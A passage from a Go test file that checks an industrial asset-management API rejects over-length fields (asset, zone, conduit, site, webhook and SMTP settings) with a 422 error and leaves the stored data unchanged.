				{"asset firmware", "POST", "/api/v1/assets", assetBody("firmware_version", 501), "/api/v1/assets", "firmware_version", "longer than 500 characters"},
				{"asset location", "POST", "/api/v1/assets", assetBody("location", 501), "/api/v1/assets", "location", "longer than 500 characters"},
				{"asset vendor contact", "POST", "/api/v1/assets", assetBody("vendor_contact", 501), "/api/v1/assets", "vendor_contact", "longer than 500 characters"},
				{"asset remote maintenance", "POST", "/api/v1/assets", assetBody("remote_maintenance", 501), "/api/v1/assets", "remote_maintenance", "longer than 500 characters"},
				{"asset SSID", "POST", "/api/v1/assets", assetBody("ssid", 100_000), "/api/v1/assets", "ssid", "longer than 500 characters"},
				{"zone name", "POST", "/api/v1/zones", `{"site_id": ` + site + `, "name": "` + long(201) + `", "kind": "ot"}`, "/api/v1/zones?site=" + site, "name", "longer than 200 characters"},
				{"zone range", "POST", "/api/v1/zones", `{"site_id": ` + site + `, "name": "z", "kind": "ot", "ranges": ["` + long(501) + `"]}`, "/api/v1/zones?site=" + site, "ranges", "longer than 500 characters"},
				{"conduit app", "POST", "/api/v1/conduits", fmt.Sprintf(`{"site_id": %s, "name": "c", "from_zone_id": %d, "to_zone_id": %d, "protocol": "tcp", "app": %q}`, site, z1, z2, long(501)), "/api/v1/conduits?site=" + site, "app", "longer than 500 characters"},
				{"conduit source", "POST", "/api/v1/conduits", fmt.Sprintf(`{"site_id": %s, "name": "c", "from_zone_id": %d, "to_zone_id": %d, "protocol": "tcp", "sources": [%q]}`, site, z1, z2, long(501)), "/api/v1/conduits?site=" + site, "sources", "longer than 500 characters"},
				{"site address", "POST", "/api/v1/sites", `{"code": "X1", "name": "x", "address": "` + long(201) + `"}`, "/api/v1/sites", "address", "longer than 200 characters"},
				{"vendor contact", "POST", "/api/v1/vendors", `{"name": "v", "contact": "` + long(201) + `"}`, "/api/v1/vendors", "contact", "longer than 200 characters"},
				{"person title", "POST", "/api/v1/people", `{"name": "p", "title": "` + long(201) + `"}`, "/api/v1/people", "title", "longer than 200 characters"},
				{"CRL method", "POST", "/api/v1/assets/" + asset + "/crl", `{"level": "high", "method": "` + long(501) + `"}`, "/api/v1/assets/" + asset + "/crl", "method", "longer than 500 characters"},
				{"CRL reason", "POST", "/api/v1/assets/" + asset + "/crl", `{"level": "high", "method": "m", "reasons": ["` + long(4001) + `"]}`, "/api/v1/assets/" + asset + "/crl", "reasons", "longer than 4000 characters"},
				{"class why", "POST", "/api/v1/assets/" + asset + "/class", `{"class": "D", "why": "` + long(4001) + `"}`, "/api/v1/assets/" + asset + "/class", "why", "longer than 4000 characters"},
				{"webhook URL", "POST", "/api/v1/notifications/webhooks", `{"name": "w", "url": "https://example.org/` + long(2048) + `", "secret": "0123456789abcdef0123"}`, "/api/v1/notifications/webhooks", "url", "longer than 2048 characters"},
				{"webhook name", "POST", "/api/v1/notifications/webhooks", `{"name": "` + long(201) + `", "url": "https://example.org/", "secret": "0123456789abcdef0123"}`, "/api/v1/notifications/webhooks", "name", "longer than 200 characters"},
				{"public URL", "PUT", "/api/v1/notifications/settings", `{"smtp": {"tls_policy": "mandatory"}, "public_url": "https://example.org/` + long(2048) + `"}`, "/api/v1/notifications/settings", "public_url", "longer than 2048 characters"},
				{"SMTP host", "PUT", "/api/v1/notifications/settings", `{"smtp": {"tls_policy": "mandatory", "host": "` + long(501) + `"}}`, "/api/v1/notifications/settings", "smtp.host", "longer than 500 characters"},
			}
			for _, tt := range tests {
				lstatus, before := f.do("GET", tt.list, admin, "")
				status, body := f.do(tt.method, tt.path, admin, tt.body)
				if status != 422 || !strings.Contains(body, `"field": "`+tt.field+`"`) || !strings.Contains(body, tt.want) {
					t.Errorf("%s: %d %.300s; want 422 on %s saying %q", tt.name, status, body, tt.field, tt.want)
				}
				// The class decision of an asset nobody decided is 404 before and after.
				if lstatus2, after := f.do("GET", tt.list, admin, ""); (lstatus != 200 && lstatus != 404) || lstatus2 != lstatus || after != before {
					t.Errorf("%s: GET %s changed or failed (%d, %d)", tt.name, tt.list, lstatus, lstatus2)
				}
			}
		})
	}
}
